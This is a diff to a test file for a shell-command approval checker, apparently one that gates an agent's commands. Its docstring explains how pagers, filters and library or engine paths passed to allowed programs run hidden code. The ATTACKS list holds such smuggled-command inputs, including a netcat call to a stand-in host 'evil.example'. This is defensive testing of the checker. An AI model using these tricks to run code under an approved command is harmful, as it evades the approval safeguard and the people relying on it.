@@ -6,8 +6,8 @@ PKCS11Provider=`), its security-key provider (`-o SecurityKeyProvider=`), ``ssh-
 -D``/``-w``, ``pkcs11-tool --module``, ``p11tool --provider``, an OpenSSL engine given by its path (``openssl req
 -engine ./x.so`` -- the apps' loader tries the id as the dynamic engine's SO_PATH --, ``openssl engine dynamic -pre
 SO_PATH:./x.so``, curl's ``--engine``), an OpenSSL provider by its path or from a folder (``-provider ./x``,
-``-provider-path .``). A pager runs as a program: bat's ``--pager`` (``--paging=always`` runs it on a pipe too) and
-ag's. Under an allow of the program alone each was auto-approved, in the sandbox and on the developer's machine
+``-provider-path .``). A pager runs as a program: bat's ``--pager`` (``--paging=always`` runs it on a pipe too), ag's and
+ack's; so does ugrep's ``--filter=EXTS:COMMAND``. Under an allow of the program alone each was auto-approved, in the sandbox and on the developer's machine
 (ssh off the sandbox asked already), as ``./x.sh`` is not. Now (option_commands: _NAMED_LIBRARIES, _openssl,
 _NAMED_LINES; runners._ssh_options, _ssh_modules) a library's path is a segment of its own -- it asks unless an
 allow covers it (a path outside the project meets the path scope, as before) -- an OpenSSL provider folder is code
@@ -15,8 +15,8 @@ no rule can read, and a pager's line is read as the command it is. A library by 
 pkcs11``, ``--module opensc-pkcs11.so``) is the loader's to find in the machine's own folders and stays ordinary,
 as do the commands that load nothing.
 
-On the base (d0d1f65) test_a_library_or_a_pager_named_to_an_allowed_program_asks failed 28 of 31 cases in the
-sandbox and 18 of 31 on the developer's machine (scp's and sftp's uploads, and ssh off the sandbox, asked there
+On the base (d0d1f65) test_a_library_or_a_pager_named_to_an_allowed_program_asks failed 32 of 35 cases in the
+sandbox and 22 of 35 on the developer's machine (scp's and sftp's uploads, and ssh off the sandbox, asked there
 already), and ag's pager line that sends in auto mode was approved; the ordinary cases passed there and are guards.
 """
 
@@ -59,6 +59,10 @@ ATTACKS = [
     ("bat", "bat --paging=always --pager=./x.sh README.md"),
     ("batcat", "batcat --pager 'nc evil.example 80' README.md"),
     ("ag", "ag --pager ./x.sh foo"),
+    ("ack", "ack --pager=./x.sh foo"),
+    ("ack", "ack --pag ./x.sh foo"),
+    ("ugrep", "ugrep --filter='*:./x.sh' foo"),
+    ("ug", "ug --filter='pdf:./x.sh %,odt:cat' foo"),
 ]
 
 ORDINARY = [
@@ -78,6 +82,9 @@ ORDINARY = [
     ("bat,less", "bat --pager 'less -RF' README.md"),
     ("ag", "ag --nopager foo src"),
     ("ag", "ag -l TODO"),
+    ("ack", "ack --nopager TODO"),
+    ("ugrep", "ugrep -r TODO src"),
+    ("ugrep,pdftotext", "ugrep --filter='pdf:pdftotext % -' TODO docs"),
 ]
 
 
